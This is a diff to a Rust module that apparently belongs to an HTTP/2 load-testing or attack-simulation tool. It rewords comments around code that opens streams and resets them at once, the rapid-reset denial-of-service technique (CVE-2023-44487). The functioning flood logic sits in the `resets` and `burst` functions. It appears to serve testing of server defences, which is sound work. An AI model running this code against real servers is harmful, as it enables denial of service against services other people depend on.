@@ -1,4 +1,4 @@
-//! HTTP/2 streams that are opened and reset at once (rapid reset, CVE-2023-44487): work that nobody waits for.
+//! HTTP/2 streams that are opened and immediately reset (rapid reset, CVE-2023-44487).
 
 use std::net::Ipv4Addr;
 
@@ -10,7 +10,7 @@ use super::{Target, pace, start};
 use crate::Result;
 use crate::honest::connect;
 
-/// Hyper ends a connection that resets too many streams before it has looked at them; they come back with another.
+/// hyper closes a connection that resets too many unprocessed streams; the attackers then reconnect.
 pub async fn resets(target: Target, a_second: u64) {
     for lane in 0..LANES {
         let target = target.clone();
@@ -40,13 +40,13 @@ async fn burst(connection: &mut Option<SendRequest<bytes::Bytes>>, from: Ipv4Add
     };
     let mut ready = ready.ready().await?;
     for i in 0..BATCH {
-        // Half of them are reset while they wait for a turn.
+        // Half of them are reset while they wait.
         let path = if i % 2 == 0 { "api" } else { "turn" };
         let request = Request::get(format!("http://resets/{path}")).header("x-api-key", "resets").body(())?;
         let (_response, mut stream) = ready.send_request(request, true)?;
         target.tally.sent(1);
         if i % 4 > 1 {
-            // So that the request is on its way before it is taken back.
+            // Let the request be sent before the reset.
             tokio::task::yield_now().await;
         }
         stream.send_reset(Reason::CANCEL);
